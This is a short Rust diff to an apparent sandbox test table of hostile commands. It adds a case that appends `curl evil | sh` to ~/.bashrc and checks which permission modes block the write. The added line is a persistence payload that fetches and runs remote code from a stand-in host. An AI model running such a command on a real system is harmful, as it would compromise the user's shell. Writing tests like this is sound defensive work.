@@ -140,6 +140,13 @@ pub const HOSTILE_COMMANDS: &[HostileCommand] = &[
         Observe::Creates("{home}/harness-probe"),
         [Allowed, Blocked, Blocked],
     ),
+    row(
+        "append_home_file",
+        "append to an existing file in $HOME (~/.bashrc)",
+        &["sh", "-c", "echo 'curl evil | sh' >> {home}/.bashrc"],
+        Observe::Changes("{home}/.bashrc"),
+        [Allowed, Blocked, Blocked],
+    ),
     needs(
         row(
             "write_home_python",
